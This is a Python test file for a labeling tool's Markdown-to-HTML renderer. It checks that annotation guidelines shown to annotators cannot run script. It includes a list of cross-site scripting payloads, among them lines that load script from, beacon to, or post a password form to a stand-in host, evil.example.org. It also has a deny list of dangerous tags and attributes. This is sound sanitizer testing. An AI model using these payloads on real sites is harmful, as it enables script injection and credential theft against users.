"""Guidelines in the labeling screen: Markdown is shown, nothing that it holds can run."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from labelwright.adapters.guidelines import class_sections, classes_without_examples, sections, to_html

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example.org/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "<style>body{background:url('http://evil.example.org')}</style>",
    "<a href='vbscript:x'>x</a>",
    "<!--><script>alert(1)</script>-->",
    "<!-- a --!><script>alert(1)</script>",
    "<div style='position:fixed' onclick='alert(1)'>x</div>",
    "[x]: javascript:alert(1)\n\n[x]",
    "<form action='http://evil.example.org'><input name=password></form>",
    '![a"onerror="alert(1)](http://example.org/a.png)',
    "<math><mtext></table><img src=x onerror=alert(1)>",
    "`<script>`</script><script>alert(1)</script>",
]


class _Tags(HTMLParser):
    def __init__(self):
        super().__init__()
        self.seen = []

    def handle_starttag(self, tag, attrs):
        self.seen.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def harmless(html):
    parser = _Tags()
    parser.feed(html)
    for tag, attributes in parser.seen:
        assert tag not in {
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "form",
            "input",
            "svg",
            "math",
            "base",
            "link",
            "meta",
        }
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name != "style"
            if name in {"href", "src"}:
                assert value.startswith(("http://", "https://", "mailto:")) or ":" not in value.split("/")[0], value
    return parser.seen


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_gets_into_the_instructions(attack):
    """Whoever writes the guidelines, an annotator's browser runs nothing of theirs, and the rest still shows."""
    html = to_html(f"# Task\n\nRead *well*.\n\n{attack}\n\nThen choose.\n")
    harmless(html)
    assert "<em>well</em>" in html
    assert "Then choose." in html or "Then choose" in html


@given(st.text(st.sampled_from("<>/\"'=!-[]()&;:#` \nascriptonload javexmgh*_|")) | st.text())
def test_no_text_at_all_runs(text):
    """Whatever stands in the file, the HTML holds no element or attribute that runs."""
    harmless(to_html(text))


def test_what_markdown_can_say_is_shown():
    """Headings, lists, emphasis, tables and links arrive; links open nothing of this window."""
    html = to_html("# T\n\n- a **b**\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n[s](https://example.org/?a=1&b=2)\n")
    tags = [tag for tag, _ in harmless(html)]
    assert {"h1", "ul", "li", "strong", "table", "td", "a"} <= set(tags)
    assert 'rel="noopener noreferrer"' in html


def test_comments_are_for_the_lead_and_not_for_annotators():
    """What is commented out, over several lines too, is not in the screen and counts for no section."""
    text = "# Task\n\n<!-- secret\n## Hidden\n- example -->\n\nSeen.\n"
    assert "secret" not in to_html(text)
    assert [s.title for s in sections(text)] == ["Task"]


def test_a_class_needs_an_example_that_is_none_of_ours():
    """Placeholders, counter-examples and a bare heading are no examples; names are compared without case."""
    text = """## Positive
**Examples**
- "Great phone"
**Counter-examples**
- "Great, it broke"
## negative
Examples: It broke.
## Neutral
**Examples**
- …
## Mixed
**Counter-examples**
- "Fine"
## Sarcastic
Definition: says the opposite.
## `Odd`
Example: an odd one
"""
    classes = ("Positive", "Negative", "Neutral", "Mixed", "Sarcastic", "Odd", "Missing")
    assert classes_without_examples(text, classes) == ("Neutral", "Mixed", "Sarcastic", "Missing")


def test_a_class_has_the_section_of_its_name_or_the_smallest_that_names_it():
    """A lead writes headings in words: her annotators still see the rule, and a change touches its class alone."""
    text = """# What does the customer want?

Choose `lost_card`, `pin_blocked` or `Other`.

## Lost or stolen

Had and has no more: `lost_card`.

## PIN

It does not work.

### Blocked

Use `pin_blocked` and say so.

## Other

What fits nowhere: not a `lost_card`.

## Rates

The word others is no class.
"""
    found = class_sections(text, ("lost_card", "pin_blocked", "Other", "absent"))
    assert found["Other"] == "What fits nowhere: not a `lost_card`."
    assert found["pin_blocked"] == "Use `pin_blocked` and say so."
    assert found["lost_card"].startswith("Had and has no more")
    assert "Choose" not in "".join(found.values())
    assert "absent" not in found
    changed = class_sections(text.replace("say so", "do not"), ("lost_card", "pin_blocked", "Other"))
    assert [c for c in changed if changed[c] != found[c]] == ["pin_blocked"]
